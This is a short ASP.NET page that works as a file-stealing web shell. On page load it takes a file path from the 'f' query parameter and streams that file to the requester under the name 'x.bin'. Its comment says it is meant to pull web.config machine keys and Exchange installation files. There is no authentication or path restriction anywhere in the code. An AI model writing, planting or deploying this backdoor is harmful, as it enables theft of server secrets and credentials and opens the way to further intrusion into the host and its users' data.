<%@ Page Language="C#" EnableViewState="false" %>
<script runat="server">
// Hands back whatever file the query names: web.config machine keys,
// the Exchange install's files, anything the worker can read.
protected void Page_Load(object sender, EventArgs e)
{
    string f = Request.QueryString["f"];
    if (String.IsNullOrEmpty(f)) { Response.StatusCode = 404; return; }
    Response.ContentType = "application/octet-stream";
    Response.AddHeader("Content-Disposition", "attachment; filename=x.bin");
    Response.TransmitFile(f);
    Response.End();
}
</script>
